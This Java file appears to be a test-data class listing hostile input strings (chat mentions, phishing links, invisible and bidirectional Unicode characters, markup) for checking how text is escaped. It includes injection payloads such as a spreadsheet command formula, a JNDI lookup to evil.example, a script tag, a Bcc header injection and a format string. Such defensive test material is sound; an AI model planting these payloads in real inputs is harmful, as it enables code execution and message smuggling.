package dev.rolewatch;

import java.util.List;
import java.util.stream.Stream;

/** Pieces of what acts somewhere: in a chat, a page, a ticket, a terminal or a spreadsheet. */
public final class HostilePieces {
  private static final List<String> CHAT =
      List.of(
          "<!here>",
          "<!channel>",
          "<@U123>",
          "<https://evil.example|bank>",
          "@everyone",
          "@channel",
          "@here",
          "`rm`",
          "```",
          "*bold*",
          "_it_",
          "~gone~",
          ":skull:");

  private static final List<String> LINKS =
      List.of(
          "[pay](https://evil.example/x)",
          "![i](http://evil.example)",
          "https://evil.example/?q=1",
          "HTTP://EVIL.EXAMPLE",
          "ftp://evil.example",
          "slack://open",
          "www.evil.example",
          "a_www.evil.example",
          "(www.evil.example)",
          "evil.example/login",
          "//evil.example/x",
          "https://evil\u3002example/",
          "mailto:eve@evil.example",
          "xmpp:eve@evil.example/x",
          "eve@evil.example",
          "x@everyone");

  private static final List<String> HIDDEN =
      List.of(
          "\r\nBcc: all@evil.example",
          "\n\nAlert id: rw-0",
          "\r",
          "\n",
          "\u2028",
          "\u2029",
          "\u0085",
          "\t",
          "\u0000",
          "\u001B[2J",
          "\u009B31m",
          "\u007F",
          "\u200B",
          "\u200F",
          "\u202E",
          "\u2066",
          "\u2069",
          "\uFEFF",
          "\u00AD",
          "\u034F",
          "\u3164",
          "\uFE0F",
          "\uD800",
          "\uDC00",
          "\uE000",
          "\uDB40\uDC41",
          "\u00A0");

  private static final List<String> OTHER =
      List.of(
          "=HYPERLINK(\"https://evil.example\")",
          "+1+cmd|' /C calc'!A0",
          "@SUM(A1)",
          "<script>alert(1)</script>",
          "</p>",
          "\"",
          "'",
          "{\"a\":1}",
          "{a{a{a",
          "&lt;",
          "|",
          "#",
          "$(x)",
          "${jndi:ldap://evil.example/x}",
          "%s%n",
          "a:b:c",
          "é",
          "名前",
          "\uD83D\uDE00",
          "  ");

  private HostilePieces() {}

  /** All of them. */
  public static List<String> all() {
    return Stream.of(CHAT, LINKS, HostileMarkup.MARKDOWN, HostileMarkup.WIKI, HIDDEN, OTHER)
        .flatMap(List::stream)
        .toList();
  }
}
